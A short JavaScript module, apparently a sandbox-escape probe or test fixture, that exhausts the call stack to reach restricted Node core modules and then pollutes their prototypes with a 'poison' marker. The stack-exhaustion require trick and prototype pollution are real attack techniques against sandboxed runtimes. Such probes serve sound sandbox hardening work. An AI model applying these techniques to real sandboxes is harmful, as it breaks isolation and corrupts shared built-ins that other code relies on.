module.exports = (victim, loot) => {
  const names = ['events', 'querystring', 'string_decoder', 'async_hooks'];
  const reach = (name) => { try { loot[name] = require(name); } catch (error) { loot.error = error; } };
  const dive = (left) => { try { dive(left); } catch (error) { loot.depth = 1; } if (loot.tried > 40) return; loot.tried += 1; names.forEach(reach); };
  loot.tried = 0;
  try { dive(); } catch (error) { loot.error = error; }
  for (const name of names) {
    try { (typeof loot[name] === 'function' ? loot[name].prototype : Object.values(loot[name]).find((value) => typeof value === 'function').prototype ?? {}).poison = 'poisoned'; } catch (error) { loot.refused = true; }
  }
};
